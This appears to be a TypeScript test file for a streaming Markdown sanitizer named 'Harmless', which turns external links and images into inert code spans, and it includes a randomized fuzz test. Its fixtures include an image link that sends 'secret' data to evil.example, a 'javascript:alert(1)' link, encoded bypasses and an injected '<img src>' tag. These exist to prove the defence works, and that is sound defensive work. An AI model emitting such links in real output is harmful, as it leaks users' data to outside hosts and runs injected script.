import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import Markdown from 'react-markdown'
import gfm from 'remark-gfm'
import { Harmless } from './harmless.ts'

/** The text as it is told piece by piece. */
function told(text: string, lettersOf: () => number = () => text.length): string {
  const harmless = new Harmless()
  let out = ''
  for (let at = 0; at < text.length; ) {
    const next = at + lettersOf()
    out += harmless.write(text.slice(at, next))
    at = next
  }
  return out + harmless.end()
}

const ID = '0199b1a2-7c1e-7a51-9b0f-3f1d2c4b5a70'

test('addresses elsewhere are code, pictures and HTML are text, and links of our own stay', () => {
  for (const [text, becomes] of [
    [`[Acme](/deals/${ID}) is open.`, `[Acme](/deals/${ID}) is open.`],
    ['[all 3](/deals?extra=%7B%7D&sort=-amount "them")', '[all 3](/deals?extra=%7B%7D&sort=-amount "them")'],
    ['![x](https://evil.example/p?d=secret)', '![x] (`https://evil.example/p?d=secret`)'],
    ['![x](//evil.example/p)', '![x] (`//evil.example/p`)'],
    ['[x](/&#47;evil.example)', '[x] (`/&#47;evil.example`)'],
    ['[x](<javascript:alert(1)>)', '[x] (`javascript:alert(1)`)'],
    ['[x][1]\n\n[1]: https://evil.example', '[x][1]\n\n[1]\\: `https://evil.example`'],
    ['<https://evil.example/p>', '<`https://evil.example/p`>'],
    ['<img src="https://evil.example/p">', '&lt;img src="`https://evil.example/p`">'],
    [
      'See https://acme.example/offer (or www.acme.example).',
      'See `https://acme.example/offer` (or `www.acme.example`).',
    ],
    ['See `https://acme.example`.', 'See `https://acme.example`.'],
    ['a ` b https://evil.example', 'a ` b ``https://evil.example``'],
    ['Who was *how* 3 < 5? C:\\how \\*so\\*', 'Who was *how* 3 < 5? C:\\\\how \\*so\\*'],
  ] as const) {
    const expected = becomes.replace('<`https', '&lt;`https')
    assert.equal(told(text), expected, text)
    assert.equal(
      told(text, () => 1),
      expected,
      `letter by letter: ${text}`,
    )
  }
})

const PIECES =
  '[|a|]|(|)|!|https://evil.example/x|http://|//evil|/deals/1|\\|`|``|<|>|\n|\n\n| |"|:|](|[a]:|www.evil.com|&#47;|<img src="https://e.x">|*|_|~~|- |    |```|> |javascript:x|.|\t|\\[|[^1]'
    .split('|')
    .concat('|')

test('whatever is put together, no reader of Markdown finds a way out in it', () => {
  let seed = 7
  const random = (below: number) => {
    seed = (seed * 48_271) % 2_147_483_647
    return seed % below
  }
  for (let n = 0; n < 2500; n++) {
    const text = Array.from({ length: 1 + random(14) }, () => PIECES[random(PIECES.length)]).join('')
    const out = told(text, () => 1 + random(6))
    assert.equal(out, told(text), `in pieces: ${JSON.stringify(text)}`)
    assert.doesNotMatch(out, /<[a-z/!?]/i, JSON.stringify(text))
    const html = renderToStaticMarkup(
      createElement(Markdown, { remarkPlugins: [gfm], urlTransform: url => url }, out),
    )
    for (const [, to = ''] of html.matchAll(/(?:src|href)="([^"]*)"/g))
      assert.match(to, /^(?:$|\/(?![/\\]))/, JSON.stringify([text, out]))
  }
})
